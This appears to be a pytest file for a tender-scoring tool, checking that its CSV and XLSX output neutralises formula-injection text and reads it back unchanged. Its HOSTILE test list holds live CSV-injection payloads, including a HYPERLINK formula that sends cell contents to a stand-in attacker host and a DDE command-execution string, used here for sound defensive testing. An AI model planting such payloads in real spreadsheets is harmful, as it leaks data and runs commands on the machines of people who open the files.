"""Text cells that no spreadsheet runs: every CSV and XLSX obcrules writes guards text
starting ``= + - @``, tab or carriage return, and the sheet readers give the original
text back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from obcrules.io.cells import csv_bytes, guard, is_live, unguard
from obcrules.io.xlsx import workbook_bytes
from obcrules.tender.sheets import read_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Acme")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1", "''@x", "\uff1d1+1", "=",
           "-", "+"]
PLAIN = ["Acme Care Ltd", "'Tis good", "-5", "+2.5", "1e3", "", "a=b", "O'Neill"]


@pytest.mark.parametrize("text", HOSTILE)
def test_risky_text_is_guarded(text: str) -> None:
    assert not is_live(guard(text))
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_written_as_they_are(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


@given(st.text())
def test_guard_and_unguard_are_inverses(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not is_live(guard(text))


def test_csv_cells_are_guarded_and_read_back_unchanged(tmp_path: Path) -> None:
    rows = [["bidder", "criterion", "score", "justification"],
            *[[text, "quality", "3", text] for text in HOSTILE + PLAIN]]
    path = tmp_path / "sheet.csv"
    path.write_bytes(csv_bytes(rows))
    written = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    assert not [cell for row in written for cell in row if is_live(cell)]
    read = read_rows(path, "sheet.csv", ("bidder",))
    assert [r.get("justification") for r in read] == [t.strip() for t in HOSTILE + PLAIN]


def test_xlsx_text_cells_are_text_and_read_back_unchanged(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Scores"
    sheet.append(["bidder", "justification", "score"])
    for text in HOSTILE + PLAIN:
        sheet.append([text, text, 3])
    path = tmp_path / "sheet.xlsx"
    path.write_bytes(workbook_bytes(book))
    loaded = load_workbook(path)
    cells = [c for row in loaded.worksheets[0].iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(not is_live(str(c.value)) for c in cells if isinstance(c.value, str))
    read = read_rows(path, "sheet.xlsx", ("bidder", "justification"))
    expected = [t.strip() for t in HOSTILE + PLAIN]
    assert [r.get("justification") for r in read] == expected
    assert [r.get("bidder") for r in read] == expected
